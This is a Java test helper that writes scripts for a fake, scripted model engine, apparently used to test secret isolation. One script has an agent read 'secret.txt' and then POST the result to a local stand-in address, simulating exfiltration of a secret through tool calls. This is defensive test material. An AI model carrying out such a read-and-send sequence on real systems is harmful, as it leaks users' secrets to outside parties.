package dev.walden.system;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.json.JsonMapper;

/** Scripts of the engine that follows one. */
final class Scripted {

    private Scripted() {}

    /** A script of what {@link SecretSpaces} has its tasks do, and of more. */
    static String with(List<Map<String, Object>> more) {
        Map<String, Object> victim = call("calculator", Map.of("expression", "6*7"));
        Map<String, Object> file = call("read_file", Map.of("path", "secret.txt"));
        Map<String, Object> pay =
                call("http_request", Map.of("method", "POST", "url", "http://127.0.0.1:9/", "body", "{{result}}"));
        List<Map<String, Object>> all = new ArrayList<>();
        all.add(script("^victim", List.of(List.of(victim)), "{{input}}"));
        all.add(script("^asking", List.of(List.of(file), List.of(pay)), "{{input}}"));
        all.addAll(more);
        return JsonMapper.shared().writeValueAsString(Map.of("scripts", all));
    }

    static Map<String, Object> script(String match, List<List<Map<String, Object>>> steps, String answer) {
        List<Map<String, Object>> all = new ArrayList<>();
        steps.forEach(tools -> all.add(Map.of("tools", tools)));
        all.add(Map.of("answer", answer));
        return Map.of("match", match, "steps", all);
    }

    static Map<String, Object> call(String tool, Map<String, Object> arguments) {
        return Map.of("tool", tool, "arguments", arguments);
    }
}
